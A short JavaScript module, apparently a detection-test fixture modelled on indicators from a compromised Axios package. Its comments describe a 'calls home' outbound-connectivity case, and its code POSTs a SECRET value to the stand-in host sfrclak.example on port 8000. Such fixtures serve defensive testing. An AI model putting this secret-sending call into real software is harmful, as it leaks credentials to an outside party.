// act: calls home
// source: Sigma rules on Axios, DataDog indicators
// rule: outbound_connectivity
// asks: connect sfrclak.example:8000
// says: sfrclak.example
// proof: arrived
// to: sfrclak.example
'use strict';
const { request, SECRET } = require('./incident');

module.exports = () =>
    request('http', { host: 'sfrclak.example', port: 8000, path: '/', method: 'POST' }, SECRET);
